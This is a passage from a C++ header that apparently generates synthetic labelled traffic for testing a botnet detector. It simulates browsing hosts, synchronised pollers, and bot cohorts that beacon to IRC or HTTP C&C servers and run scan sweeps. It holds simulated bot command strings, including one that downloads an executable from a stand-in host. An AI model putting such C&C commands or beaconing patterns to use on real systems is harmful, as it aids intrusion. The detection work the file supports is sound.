#pragma once

// Synthetic labelled traces. Normal hosts browse the web (DNS lookups,
// short HTTP exchanges with random bodies, rare bulky downloads, some UDP).
// Sync groups are normal hosts polling a shared service on a common clock.
// Bot cohorts talk to a C&C server over a persistent IRC connection or by
// HTTP polling, with shared message templates plus per-message noise, and
// can run scan bursts.

#include <algorithm>
#include <cmath>
#include <fstream>
#include <nlohmann/json.hpp>
#include <optional>
#include <random>
#include <span>
#include <string>
#include <string_view>
#include <vector>

#include "botwatch/ingest.hpp"
#include "botwatch/model.hpp"

namespace botwatch::sim {

using Rng = std::mt19937_64;
using namespace std::chrono_literals;

enum class BotStyle { IrcPersistent, HttpPeriodic, HttpJittered };

inline std::string_view to_string(BotStyle s) {
  switch (s) {
    case BotStyle::IrcPersistent: return "IRC_PERSISTENT";
    case BotStyle::HttpPeriodic: return "HTTP_PERIODIC";
    case BotStyle::HttpJittered: return "HTTP_JITTERED";
  }
  return "?";
}

inline std::optional<BotStyle> parse_bot_style(std::string_view s) {
  for (auto style : {BotStyle::IrcPersistent, BotStyle::HttpPeriodic, BotStyle::HttpJittered})
    if (to_string(style) == s) return style;
  return std::nullopt;
}

struct CohortSpec {
  std::string name = "cohort";
  BotStyle style = BotStyle::HttpPeriodic;
  int n_bots = 4;
  Micros cc_period = 5min;
  Micros cc_jitter{0};
  std::string payload_template;  // C&C command text; empty = style default
  double noise = 0.03;           // share of template characters replaced per message
  int scan_every = 0;            // windows between scan bursts, 0 = never
  std::vector<ScanType> scan_kinds;
  Micros start{0};  // onset, relative to the scenario start
  std::optional<Micros> stop;
};

struct NormalSpec {
  double sessions_per_hour = 10.0;
  int max_connections = 3;          // per browsing session
  double response_median = 1500.0;  // body bytes, log-normal
  double response_sigma = 1.0;
  double bulky_prob = 0.003;  // per connection
  double whitelisted_share = 0.3;
  double udp_per_hour = 2.0;
  double other_per_hour = 0.5;
  int n_sites = 400;
  std::vector<std::string> whitelisted_domains{"google.com", "windowsupdate.com", "akamaiedge.net"};
};

struct SyncGroupSpec {
  int n_hosts = 2;
  std::string domain = "sync.cloudsvc.example";
  Micros period = 5min;
};

struct ScenarioSpec {
  Micros duration = 30h;
  std::uint64_t seed = 1;
  int n_normal_hosts = 28;
  Timestamp start = Micros(1'700'000'000'000'000);
  Micros tw_size = 20min;  // scan bursts are placed inside windows of this size
  NormalSpec normal;
  std::vector<CohortSpec> cohorts;
  std::vector<SyncGroupSpec> sync_groups;

  void validate() const {
    auto require = [](bool ok, const std::string& what) {
      if (!ok) throw ConfigError(what);
    };
    require(duration.count() > 0, "duration must be positive");
    require(tw_size.count() > 0, "tw_size must be positive");
    require(n_normal_hosts >= 0, "n_normal_hosts must be non-negative");
    require(normal.sessions_per_hour >= 0.0, "sessions_per_hour must be non-negative");
    require(normal.max_connections >= 1, "max_connections must be at least 1");
    require(normal.response_median > 0.0 && normal.response_sigma >= 0.0,
            "response size distribution is invalid");
    require(normal.n_sites >= 1, "n_sites must be at least 1");
    int synced = 0;
    for (const auto& g : sync_groups) {
      require(g.n_hosts >= 2, "a sync group needs at least 2 hosts");
      require(g.period.count() > 0, "sync period must be positive");
      synced += g.n_hosts;
    }
    require(synced <= n_normal_hosts, "sync groups need more normal hosts than exist");
    for (const auto& c : cohorts) {
      const std::string where = "cohort '" + c.name + "': ";
      require(c.n_bots >= 0, where + "n_bots must be non-negative");
      require(c.noise >= 0.0 && c.noise <= 1.0, where + "noise must lie in [0,1]");
      require(c.scan_every >= 0, where + "scan_every must be non-negative");
      require(c.cc_jitter.count() >= 0 && c.cc_period.count() >= 0,
              where + "cc_period and cc_jitter must be non-negative");
      if (c.style == BotStyle::HttpPeriodic)
        require(c.cc_jitter.count() == 0 && c.cc_period.count() > 0,
                where + "HTTP_PERIODIC needs cc_jitter = 0 and cc_period > 0");
      if (c.style == BotStyle::HttpJittered)
        require(c.cc_jitter.count() > 0, where + "HTTP_JITTERED needs cc_jitter > 0");
      if (c.style == BotStyle::IrcPersistent)
        require(c.cc_period.count() > 0, where + "IRC_PERSISTENT needs cc_period > 0");
    }
  }
};

// ---------------------------------------------------------------------------
// Scenario JSON

namespace detail {

inline Micros json_duration(const nlohmann::json& j, const char* key) {
  if (j.is_number_integer()) return Micros(j.get<std::int64_t>() * 1'000'000);
  if (j.is_number()) return Micros(static_cast<std::int64_t>(std::llround(j.get<double>() * 1e6)));
  if (j.is_string()) {
    if (auto d = parse_duration(j.get_ref<const std::string&>())) return *d;
  }
  throw ConfigError(std::string("invalid duration for ") + key);
}

template <typename T>
void read_opt(const nlohmann::json& j, const char* key, T& out) {
  if (auto it = j.find(key); it != j.end()) out = it->get<T>();
}

inline void read_duration(const nlohmann::json& j, const char* key, Micros& out) {
  if (auto it = j.find(key); it != j.end()) out = json_duration(*it, key);
}

}  // namespace detail

inline ScenarioSpec spec_from_json(const nlohmann::json& j) {
  ScenarioSpec s;
  try {
    if (!j.is_object()) throw ConfigError("scenario must be a JSON object");
    detail::read_duration(j, "duration", s.duration);
    detail::read_opt(j, "seed", s.seed);
    detail::read_opt(j, "n_normal_hosts", s.n_normal_hosts);
    if (auto it = j.find("start_us"); it != j.end()) s.start = Micros(it->get<std::int64_t>());
    detail::read_duration(j, "tw_size", s.tw_size);
    if (auto it = j.find("normal"); it != j.end()) {
      auto& n = s.normal;
      detail::read_opt(*it, "sessions_per_hour", n.sessions_per_hour);
      detail::read_opt(*it, "max_connections", n.max_connections);
      detail::read_opt(*it, "response_median", n.response_median);
      detail::read_opt(*it, "response_sigma", n.response_sigma);
      detail::read_opt(*it, "bulky_prob", n.bulky_prob);
      detail::read_opt(*it, "whitelisted_share", n.whitelisted_share);
      detail::read_opt(*it, "udp_per_hour", n.udp_per_hour);
      detail::read_opt(*it, "other_per_hour", n.other_per_hour);
      detail::read_opt(*it, "n_sites", n.n_sites);
      detail::read_opt(*it, "whitelisted_domains", n.whitelisted_domains);
    }
    for (const auto& c : j.value("cohorts", nlohmann::json::array())) {
      CohortSpec cs;
      detail::read_opt(c, "name", cs.name);
      auto style = parse_bot_style(c.at("style").get<std::string>());
      if (!style) throw ConfigError("unknown cohort style " + c.at("style").dump());
      cs.style = *style;
      detail::read_opt(c, "n_bots", cs.n_bots);
      detail::read_duration(c, "cc_period", cs.cc_period);
      detail::read_duration(c, "cc_jitter", cs.cc_jitter);
      detail::read_opt(c, "payload_template", cs.payload_template);
      detail::read_opt(c, "noise", cs.noise);
      detail::read_opt(c, "scan_every", cs.scan_every);
      for (const auto& k : c.value("scan_kinds", nlohmann::json::array())) {
        auto t = parse_scan_type(k.get<std::string>());
        if (!t) throw ConfigError("unknown scan kind " + k.dump());
        cs.scan_kinds.push_back(*t);
      }
      detail::read_duration(c, "start", cs.start);
      if (c.contains("stop")) cs.stop = detail::json_duration(c.at("stop"), "stop");
      s.cohorts.push_back(std::move(cs));
    }
    for (const auto& g : j.value("sync_groups", nlohmann::json::array())) {
      SyncGroupSpec gs;
      detail::read_opt(g, "n_hosts", gs.n_hosts);
      detail::read_opt(g, "domain", gs.domain);
      detail::read_duration(g, "period", gs.period);
      s.sync_groups.push_back(std::move(gs));
    }
  } catch (const nlohmann::json::exception& e) {
    throw ConfigError(std::string("malformed scenario: ") + e.what());
  }
  s.validate();
  return s;
}

inline ScenarioSpec load_spec(const std::string& path) {
  std::ifstream in(path);
  if (!in) throw InputError("cannot open scenario file: " + path);
  try {
    return spec_from_json(nlohmann::json::parse(in));
  } catch (const nlohmann::json::parse_error& e) {
    throw ConfigError(path + ": " + e.what());
  }
}

// ---------------------------------------------------------------------------
// Ground truth

struct CohortLabel {
  std::string name;
  BotStyle style = BotStyle::HttpPeriodic;
  std::vector<HostId> hosts;
  std::optional<WindowIndex> onset_window;  // window of the cohort's first packet
};

struct GroundTruth {
  std::vector<HostId> bots;
  std::vector<HostId> normal;
  std::vector<HostId> synced;  // normal hosts that belong to a sync group
  std::vector<CohortLabel> cohorts;
  std::optional<Timestamp> epoch;  // first event of the trace
};

inline nlohmann::json to_json(const GroundTruth& g) {
  auto hosts = [](const std::vector<HostId>& v) {
    auto a = nlohmann::json::array();
    for (auto h : v) a.push_back(h.to_string());
    return a;
  };
  auto cohorts = nlohmann::json::array();
  for (const auto& c : g.cohorts) {
    cohorts.push_back({{"name", c.name},
                       {"style", to_string(c.style)},
                       {"hosts", hosts(c.hosts)},
                       {"onset_window", c.onset_window ? nlohmann::json(*c.onset_window) : nlohmann::json(nullptr)}});
  }
  return {{"bots", hosts(g.bots)},
          {"normal", hosts(g.normal)},
          {"synced", hosts(g.synced)},
          {"cohorts", std::move(cohorts)},
          {"epoch_us", g.epoch ? nlohmann::json(g.epoch->count()) : nlohmann::json(nullptr)}};
}

struct Trace {
  std::vector<PacketEvent> events;  // sorted by timestamp
  GroundTruth labels;
};

// ---------------------------------------------------------------------------
// Packet emission

namespace detail {

inline Rng actor_rng(std::uint64_t seed, std::uint32_t kind, std::uint32_t index) {
  std::seed_seq seq{static_cast<std::uint32_t>(seed), static_cast<std::uint32_t>(seed >> 32), kind,
                    index};
  return Rng(seq);
}

inline double uniform(Rng& rng, double lo, double hi) {
  return std::uniform_real_distribution<double>(lo, hi)(rng);
}

inline std::int64_t uniform_int(Rng& rng, std::int64_t lo, std::int64_t hi) {
  return std::uniform_int_distribution<std::int64_t>(lo, hi)(rng);
}

inline Micros uniform_us(Rng& rng, Micros lo, Micros hi) {
  return Micros(uniform_int(rng, lo.count(), hi.count()));
}

inline bool chance(Rng& rng, double p) { return uniform(rng, 0.0, 1.0) < p; }

inline Bytes to_bytes(std::string_view s) { return Bytes(s.begin(), s.end()); }

inline Bytes random_bytes(Rng& rng, std::size_t n) {
  Bytes b(n);
  for (std::size_t i = 0; i < n; i += 8) {
    auto v = rng();
    for (std::size_t k = 0; k < 8 && i + k < n; ++k) b[i + k] = static_cast<std::uint8_t>(v >> (8 * k));
  }
  return b;
}

inline std::string random_token(Rng& rng, std::size_t n) {
  static constexpr std::string_view alphabet = "abcdefghijklmnopqrstuvwxyz0123456789";
  std::string s(n, ' ');
  for (auto& c : s) c = alphabet[uniform_int(rng, 0, alphabet.size() - 1)];
  return s;
}

// Replaces each character with a random alphanumeric one with probability p.
inline std::string add_noise(std::string s, double p, Rng& rng) {
  static constexpr std::string_view alphabet =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
  for (auto& c : s) {
    if (c != '\r' && c != '\n' && chance(rng, p)) c = alphabet[uniform_int(rng, 0, alphabet.size() - 1)];
  }
  return s;
}

inline std::string replace_all(std::string s, std::string_view from, std::string_view to) {
  for (auto pos = s.find(from); pos != std::string::npos; pos = s.find(from, pos + to.size()))
    s.replace(pos, from.size(), to);
  return s;
}

inline Ipv4 internal_host(std::size_t i) {
  return Ipv4(0x0A010000u + static_cast<std::uint32_t>(((i / 200) << 8) + 10 + i % 200));
}

inline constexpr Ipv4 kResolver{192, 0, 2, 53};
inline constexpr Ipv4 kNtpServer{192, 0, 2, 123};
inline constexpr std::size_t kMss = 1460;

class Emitter {
 public:
  Emitter(std::vector<PacketEvent>& out, Rng& rng) : out_(out), rng_(rng) {}

  Rng& rng() { return rng_; }

  void packet(Timestamp ts, Protocol proto, Ipv4 src, std::uint16_t sport, Ipv4 dst,
              std::uint16_t dport, std::string_view flags, Bytes payload = {}) {
    PacketEvent ev;
    ev.ts = ts;
    ev.protocol = proto;
    ev.src_ip = src;
    ev.dst_ip = dst;
    ev.src_port = sport;
    ev.dst_port = dport;
    ev.flags = *TcpFlags::parse(flags);
    ev.payload = std::move(payload);
    out_.push_back(std::move(ev));
  }

  Timestamp dns_lookup(Timestamp t, Ipv4 host, const std::string& qname, Ipv4 answer) {
    auto port = static_cast<std::uint16_t>(uniform_int(rng_, 1024, 65535));
    PacketEvent q;
    q.ts = t;
    q.protocol = Protocol::Dns;
    q.src_ip = host;
    q.src_port = port;
    q.dst_ip = kResolver;
    q.dst_port = 53;
    q.dns = DnsRecord{qname, {}, false};
    PacketEvent r = q;
    r.ts = t + uniform_us(rng_, 2ms, 40ms);
    std::swap(r.src_ip, r.dst_ip);
    std::swap(r.src_port, r.dst_port);
    r.dns = DnsRecord{qname, {answer}, true};
    out_.push_back(std::move(q));
    out_.push_back(r);
    return r.ts;
  }

  // Opens a TCP connection; returns the time the handshake completes.
  Timestamp tcp_open(Timestamp t, Ipv4 c, std::uint16_t cp, Ipv4 s, std::uint16_t sp) {
    auto rtt = uniform_us(rng_, 10ms, 80ms);
    packet(t, Protocol::Tcp, c, cp, s, sp, "S");
    packet(t + rtt / 2, Protocol::Tcp, s, sp, c, cp, "SA");
    packet(t + rtt, Protocol::Tcp, c, cp, s, sp, "A");
    return t + rtt;
  }

  // Sends `data` in MSS-sized segments; the receiver acknowledges every
  // second segment. Returns the time of the last packet.
  Timestamp tcp_send(Timestamp t, Ipv4 from, std::uint16_t fp, Ipv4 to, std::uint16_t tp,
                     const Bytes& data) {
    std::size_t segments = 0;
    for (std::size_t off = 0; off < data.size(); off += kMss) {
      t += uniform_us(rng_, 100us, 800us);
      auto end = std::min(data.size(), off + kMss);
      packet(t, Protocol::Tcp, from, fp, to, tp, "A", Bytes(data.begin() + off, data.begin() + end));
      if (++segments % 2 == 0 || end == data.size()) {
        packet(t + 200us, Protocol::Tcp, to, tp, from, fp, "A");
        t += 200us;
      }
    }
    return t;
  }

  Timestamp tcp_close(Timestamp t, Ipv4 c, std::uint16_t cp, Ipv4 s, std::uint16_t sp) {
    t += uniform_us(rng_, 1ms, 30ms);
    packet(t, Protocol::Tcp, c, cp, s, sp, "FA");
    packet(t + 20ms, Protocol::Tcp, s, sp, c, cp, "FA");
    packet(t + 40ms, Protocol::Tcp, c, cp, s, sp, "A");
    return t + 40ms;
  }

  // One request/response connection.
  Timestamp http_exchange(Timestamp t, Ipv4 c, std::uint16_t cp, Ipv4 s, std::uint16_t sp,
                          const Bytes& request, const Bytes& response) {
    t = tcp_open(t, c, cp, s, sp);
    t = tcp_send(t, c, cp, s, sp, request);
    t = tcp_send(t + uniform_us(rng_, 5ms, 60ms), s, sp, c, cp, response);
    return tcp_close(t, c, cp, s, sp);
  }

 private:
  std::vector<PacketEvent>& out_;
  Rng& rng_;
};

class PortAllocator {
 public:
  explicit PortAllocator(Rng& rng) : next_(static_cast<std::uint16_t>(uniform_int(rng, 49152, 65000))) {}
  std::uint16_t next() {
    auto p = next_;
    next_ = next_ >= 65535 ? 49152 : static_cast<std::uint16_t>(next_ + 1);
    return p;
  }

 private:
  std::uint16_t next_;
};

inline Ipv4 site_address(std::uint64_t seed, int site) {
  auto h = static_cast<std::uint32_t>((seed * 0x9e3779b97f4a7c15ULL + static_cast<std::uint64_t>(site) * 0x85ebca6bULL) >> 40);
  return Ipv4(93, static_cast<std::uint8_t>(184 + site / 250), static_cast<std::uint8_t>(site % 250),
              static_cast<std::uint8_t>(1 + h % 250));
}

inline Ipv4 whitelisted_address(int index) {
  return Ipv4(142, 250, static_cast<std::uint8_t>(index), 14);
}

inline constexpr std::string_view kUserAgents[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/118.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 13_5) AppleWebKit/605.1.15 Version/16.6 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:118.0) Gecko/20100101 Firefox/118.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:119.0) Gecko/20100101 Firefox/119.0",
};

inline Bytes http_response(Rng& rng, std::size_t body_size) {
  static constexpr std::string_view types[] = {"text/html", "image/jpeg", "application/javascript",
                                               "application/octet-stream", "image/png"};
  std::string head = "HTTP/1.1 200 OK\r\nContent-Type: " +
                     std::string(types[uniform_int(rng, 0, 4)]) +
                     "\r\nContent-Length: " + std::to_string(body_size) + "\r\nETag: \"" +
                     random_token(rng, 16) + "\"\r\n\r\n";
  Bytes out = to_bytes(head);
  auto body = random_bytes(rng, body_size);
  out.insert(out.end(), body.begin(), body.end());
  return out;
}

// Ordinary browsing host.
inline void normal_host(Emitter& em, const ScenarioSpec& spec, Ipv4 host, Timestamp end) {
  auto& rng = em.rng();
  const auto& n = spec.normal;
  PortAllocator ports(rng);
  const auto ua = std::string(kUserAgents[uniform_int(rng, 0, std::size(kUserAgents) - 1)]);
  std::lognormal_distribution<double> body(std::log(n.response_median), n.response_sigma);

  if (n.sessions_per_hour > 0.0) {
    std::exponential_distribution<double> gap(n.sessions_per_hour / 3600.0);
    for (Timestamp t = spec.start + Micros(static_cast<std::int64_t>(gap(rng) * 1e6)); t < end;
         t += Micros(static_cast<std::int64_t>(gap(rng) * 1e6)) + 1s) {
      std::string domain;
      Ipv4 server;
      if (!n.whitelisted_domains.empty() && chance(rng, n.whitelisted_share)) {
        static constexpr std::string_view subs[] = {"www.", "mail.", "static.", "api."};
        auto k = uniform_int(rng, 0, n.whitelisted_domains.size() - 1);
        domain = std::string(subs[uniform_int(rng, 0, 3)]) + n.whitelisted_domains[k];
        server = whitelisted_address(static_cast<int>(k));
      } else {
        auto site = static_cast<int>(uniform_int(rng, 0, n.n_sites - 1));
        domain = "www.site" + std::to_string(site) + ".example";
        server = site_address(spec.seed, site);
      }
      Timestamp s = em.dns_lookup(t, host, domain, server);
      auto conns = uniform_int(rng, 1, n.max_connections);
      for (std::int64_t c = 0; c < conns; ++c) {
        s += uniform_us(rng, 100ms, 3s);
        std::string req = (chance(rng, 0.8) ? "GET /" : "POST /") + random_token(rng, uniform_int(rng, 4, 40)) +
                          " HTTP/1.1\r\nHost: " + domain + "\r\nUser-Agent: " + ua +
                          "\r\nAccept: */*\r\nCookie: sid=" + random_token(rng, 24) + "\r\n\r\n";
        std::size_t size = chance(rng, n.bulky_prob)
                               ? static_cast<std::size_t>(uniform_int(rng, 1'150'000, 1'600'000))
                               : static_cast<std::size_t>(std::clamp(body(rng), 64.0, 900'000.0));
        em.http_exchange(s, host, ports.next(), server, 80, to_bytes(req), http_response(rng, size));
      }
    }
  }
  if (n.udp_per_hour > 0.0) {
    std::exponential_distribution<double> gap(n.udp_per_hour / 3600.0);
    for (Timestamp t = spec.start + Micros(static_cast<std::int64_t>(gap(rng) * 1e6)); t < end;
         t += Micros(static_cast<std::int64_t>(gap(rng) * 1e6)) + 1s) {
      auto p = ports.next();
      em.packet(t, Protocol::Udp, host, p, kNtpServer, 123, "", random_bytes(rng, 48));
      em.packet(t + 30ms, Protocol::Udp, kNtpServer, 123, host, p, "", random_bytes(rng, 48));
    }
  }
  if (n.other_per_hour > 0.0) {
    std::exponential_distribution<double> gap(n.other_per_hour / 3600.0);
    for (Timestamp t = spec.start + Micros(static_cast<std::int64_t>(gap(rng) * 1e6)); t < end;
         t += Micros(static_cast<std::int64_t>(gap(rng) * 1e6)) + 1s) {
      em.packet(t, Protocol::Other, host, 0, Ipv4(198, 18, 7, 1), 0, "", random_bytes(rng, 64));
    }
  }
}

// Hosts of a sync group poll a whitelisted service together: a status
// request and a telemetry upload every period.
inline void sync_group(Emitter& em, const ScenarioSpec& spec, const SyncGroupSpec& g,
                       std::span<const Ipv4> hosts, Ipv4 server, Timestamp end) {
  auto& rng = em.rng();
  std::vector<PortAllocator> ports;
  for (std::size_t i = 0; i < hosts.size(); ++i) ports.emplace_back(rng);
  std::vector<std::optional<Timestamp>> last_dns(hosts.size());
  for (Timestamp t = spec.start + uniform_us(rng, 0s, g.period); t < end;
       t += g.period + uniform_us(rng, -2s, 2s)) {
    for (std::size_t i = 0; i < hosts.size(); ++i) {
      Timestamp s = t + uniform_us(rng, 0s, 3s);
      if (!last_dns[i] || s - *last_dns[i] > 1h) {
        s = em.dns_lookup(s, hosts[i], g.domain, server);
        last_dns[i] = s;
      }
      std::string status_req = "GET /api/v2/status?device=" + hosts[i].to_string() +
                               " HTTP/1.1\r\nHost: " + g.domain +
                               "\r\nUser-Agent: cloudsync/4.2\r\nAccept: application/json\r\n\r\n";
      std::string status_resp =
          "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n{\"status\":\"ok\",\"pending\":0,"
          "\"interval\":300,\"quota\":{\"used\":" + std::to_string(uniform_int(rng, 100, 999)) +
          ",\"total\":5000},\"features\":[\"delta\",\"dedupe\",\"share\"]}";
      s = em.http_exchange(s, hosts[i], ports[i].next(), server, 443, to_bytes(status_req),
                           to_bytes(status_resp));
      std::string telemetry_req =
          "POST /api/v2/telemetry HTTP/1.1\r\nHost: " + g.domain +
          "\r\nUser-Agent: cloudsync/4.2\r\nContent-Type: application/octet-stream\r\n\r\n";
      telemetry_req += "{\"client\":\"cloudsync\",\"version\":\"4.2.17\",\"platform\":\"win64\","
                       "\"events\":[{\"type\":\"heartbeat\",\"files_synced\":" +
                       std::to_string(uniform_int(rng, 0, 40)) +
                       "},{\"type\":\"disk\",\"free_mb\":" + std::to_string(uniform_int(rng, 1000, 99999)) +
                       "},{\"type\":\"net\",\"rtt_ms\":" + std::to_string(uniform_int(rng, 5, 90)) + "}]}";
      em.http_exchange(s + uniform_us(rng, 200ms, 2s), hosts[i], ports[i].next(), server, 443,
                       to_bytes(telemetry_req),
                       to_bytes("HTTP/1.1 204 No Content\r\nServer: cloudsync\r\nX-Request-Id: " +
                                random_token(rng, 8) + "\r\n\r\n"));
    }
  }
}

inline std::string default_template(BotStyle style) {
  if (style == BotStyle::IrcPersistent)
    return ".advscan lsass 150 5 0 -r -s :: download http://update.%ID%.example/s.exe c:\\s.exe 1";
  return "<cmd>task=idle;sleep=300;upd=0;ddos=none;spam_tpl=tpl_0031;list=mx_batch_7</cmd>";
}

inline void scan_burst(Emitter& em, Timestamp t, Ipv4 bot, ScanType kind, PortAllocator& ports) {
  auto& rng = em.rng();
  const auto n = uniform_int(rng, 30, 40);
  Ipv4 subnet(10, static_cast<std::uint8_t>(uniform_int(rng, 100, 199)),
              static_cast<std::uint8_t>(uniform_int(rng, 0, 255)), 0);
  std::vector<int> pool;
  for (int i = 1; i < 255; ++i) pool.push_back(i);
  std::shuffle(pool.begin(), pool.end(), rng);
  auto target_host = Ipv4(subnet.value() + static_cast<std::uint32_t>(pool[0]));
  std::vector<int> port_pool;
  for (int p = 20; p < 1100; ++p) port_pool.push_back(p);
  std::shuffle(port_pool.begin(), port_pool.end(), rng);

  for (std::int64_t k = 0; k < n; ++k) {
    t += uniform_us(rng, 50ms, 300ms);
    auto sweep_target = Ipv4(subnet.value() + static_cast<std::uint32_t>(pool[k]));
    auto port = static_cast<std::uint16_t>(port_pool[k]);
    switch (kind) {
      case ScanType::TcpPortsweep:
        em.packet(t, Protocol::Tcp, bot, ports.next(), sweep_target, 445, "S");
        break;
      case ScanType::TcpPortscan:
        em.packet(t, Protocol::Tcp, bot, ports.next(), target_host, port, "S");
        break;
      case ScanType::UdpPortsweep:
        em.packet(t, Protocol::Udp, bot, ports.next(), sweep_target, 137, "", random_bytes(rng, 50));
        break;
      case ScanType::UdpPortscan:
        em.packet(t, Protocol::Udp, bot, ports.next(), target_host, port, "");
        break;
      case ScanType::IcmpSweep:
        em.packet(t, Protocol::Icmp, bot, 0, sweep_target, 0, "", random_bytes(rng, 32));
        break;
    }
  }
}

struct CohortAddresses {
  Ipv4 server;
  std::string domain;
};

inline void bot_scans(Emitter& em, const ScenarioSpec& spec, const CohortSpec& c, Ipv4 bot,
                      Timestamp onset, Timestamp end, PortAllocator& ports) {
  if (c.scan_every <= 0) return;
  std::vector<ScanType> kinds = c.scan_kinds;
  if (kinds.empty()) kinds = {ScanType::IcmpSweep, ScanType::TcpPortsweep};
  auto& rng = em.rng();
  auto first = (onset - spec.start) / spec.tw_size;
  for (auto w = first;; w += c.scan_every) {
    Timestamp ws = spec.start + w * spec.tw_size;
    Timestamp t = std::max(ws + uniform_us(rng, spec.tw_size / 20, spec.tw_size / 2), onset + 30s);
    if (t >= end) break;
    for (auto kind : kinds) {
      scan_burst(em, t, bot, kind, ports);
      t += uniform_us(rng, 15s, 40s);
    }
  }
}

// Persistent IRC session: server-wide PINGs every ~90 s and channel
// commands every cc_period (+ jitter) that every bot acknowledges.
inline void irc_cohort(std::vector<Emitter>& ems, const ScenarioSpec& spec, const CohortSpec& c,
                       std::span<const Ipv4> bots, const CohortAddresses& addr, Rng& cohort_rng,
                       Timestamp onset, Timestamp end) {
  struct ServerMessage {
    Timestamp ts;
    bool ping;
    std::string text;
  };
  std::vector<ServerMessage> schedule;
  for (Timestamp t = onset + 90s; t < end; t += 90s + uniform_us(cohort_rng, -5s, 5s))
    schedule.push_back({t, true, random_token(cohort_rng, 10)});
  const std::string tpl = c.payload_template.empty() ? default_template(c.style) : c.payload_template;
  for (Timestamp t = onset + uniform_us(cohort_rng, 60s, 120s); t < end;
       t += c.cc_period + uniform_us(cohort_rng, 0s, c.cc_jitter))
    schedule.push_back({t, false, tpl});
  std::sort(schedule.begin(), schedule.end(),
            [](const ServerMessage& a, const ServerMessage& b) { return a.ts < b.ts; });

  const std::string chan = "#" + c.name;
  for (std::size_t b = 0; b < bots.size(); ++b) {
    auto& em = ems[b];
    auto& rng = em.rng();
    PortAllocator ports(rng);
    const std::string nick = "bot" + random_token(rng, 6);
    const auto cp = ports.next();
    Timestamp t = onset + uniform_us(rng, 0s, 20s);
    t = em.dns_lookup(t, bots[b], addr.domain, addr.server);
    t = em.tcp_open(t, bots[b], cp, addr.server, 6667);
    em.packet(t + 5ms, Protocol::Tcp, bots[b], cp, addr.server, 6667, "A",
              to_bytes("NICK " + nick + "\r\nUSER " + nick + " 0 0 :" + nick + "\r\nJOIN " + chan + "\r\n"));
    em.packet(t + 60ms, Protocol::Tcp, addr.server, 6667, bots[b], cp, "A",
              to_bytes(":irc.cc.example 001 " + nick + " :Welcome\r\n:" + nick + " JOIN " + chan + "\r\n"));
    for (const auto& m : schedule) {
      if (m.ts <= t + 1s) continue;
      Timestamp at = m.ts + uniform_us(rng, 1ms, 50ms);
      if (m.ping) {
        em.packet(at, Protocol::Tcp, addr.server, 6667, bots[b], cp, "A", to_bytes("PING :" + m.text + "\r\n"));
        em.packet(at + uniform_us(rng, 10ms, 200ms), Protocol::Tcp, bots[b], cp, addr.server, 6667, "A",
                  to_bytes("PONG :" + m.text + "\r\n"));
      } else {
        auto cmd = add_noise(replace_all(m.text, "%ID%", nick), c.noise, rng);
        em.packet(at, Protocol::Tcp, addr.server, 6667, bots[b], cp, "A",
                  to_bytes(":master!m@cc.example PRIVMSG " + chan + " :" + cmd + "\r\n"));
        em.packet(at + uniform_us(rng, 100ms, 900ms), Protocol::Tcp, bots[b], cp, addr.server, 6667, "A",
                  to_bytes(add_noise("PRIVMSG " + chan + " :[scan] started: " + cmd.substr(0, 32) + "\r\n",
                                     c.noise, rng)));
      }
    }
    if (c.stop) em.tcp_close(end - 1s, bots[b], cp, addr.server, 6667);
    bot_scans(em, spec, c, bots[b], onset, end, ports);
  }
}

// HTTP polling bot: GET to the C&C gate, command in the response body.
inline void http_bot(Emitter& em, const ScenarioSpec& spec, const CohortSpec& c, Ipv4 bot,
                     const CohortAddresses& addr, Timestamp onset, Timestamp end) {
  auto& rng = em.rng();
  PortAllocator ports(rng);
  const std::string id = random_token(rng, 12);
  const std::string tpl = c.payload_template.empty() ? default_template(c.style) : c.payload_template;
  auto gap = [&] { return std::max<Micros>(1s, c.cc_period + uniform_us(rng, 0s, c.cc_jitter)); };
  std::optional<Timestamp> last_dns;
  for (Timestamp t = onset + uniform_us(rng, 0s, std::max(c.cc_period, c.cc_jitter)); t < end; t += gap()) {
    Timestamp s = t;
    if (!last_dns || s - *last_dns > 1h) {
      s = em.dns_lookup(s, bot, addr.domain, addr.server);
      last_dns = s;
    }
    std::string req = "GET /gate.php?id=" + id + "&os=win7&ver=2.1&r=" + random_token(rng, 4) +
                      " HTTP/1.1\r\nHost: " + addr.domain +
                      "\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)\r\n"
                      "Accept: */*\r\nConnection: close\r\n\r\n";
    auto body = add_noise(replace_all(tpl, "%ID%", id), c.noise, rng);
    std::string resp = "HTTP/1.1 200 OK\r\nServer: nginx/1.0.4\r\nContent-Type: text/html\r\n"
                       "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body;
    em.http_exchange(s, bot, ports.next(), addr.server, 80, to_bytes(add_noise(req, c.noise / 2, rng)),
                     to_bytes(resp));
  }
  bot_scans(em, spec, c, bot, onset, end, ports);
}

}  // namespace detail

// ---------------------------------------------------------------------------

inline Trace generate(const ScenarioSpec& spec) {
  spec.validate();
  Trace trace;
  const Timestamp end = spec.start + spec.duration;
  std::vector<std::vector<PacketEvent>> streams;
  auto stream = [&]() -> std::vector<PacketEvent>& { return streams.emplace_back(); };

  std::vector<Ipv4> normals;
  for (int i = 0; i < spec.n_normal_hosts; ++i) normals.push_back(detail::internal_host(i));
  for (std::size_t i = 0; i < normals.size(); ++i) {
    auto rng = detail::actor_rng(spec.seed, 1, static_cast<std::uint32_t>(i));
    detail::Emitter em(stream(), rng);
    detail::normal_host(em, spec, normals[i], end);
  }

  std::size_t next_synced = 0;
  for (std::size_t g = 0; g < spec.sync_groups.size(); ++g) {
    const auto& group = spec.sync_groups[g];
    std::span<const Ipv4> hosts(normals.data() + next_synced, static_cast<std::size_t>(group.n_hosts));
    next_synced += hosts.size();
    trace.labels.synced.insert(trace.labels.synced.end(), hosts.begin(), hosts.end());
    auto rng = detail::actor_rng(spec.seed, 2, static_cast<std::uint32_t>(g));
    detail::Emitter em(stream(), rng);
    detail::sync_group(em, spec, group, hosts, Ipv4(198, 18, 0, static_cast<std::uint8_t>(10 + g)), end);
  }

  std::size_t next_host = normals.size();
  for (std::size_t ci = 0; ci < spec.cohorts.size(); ++ci) {
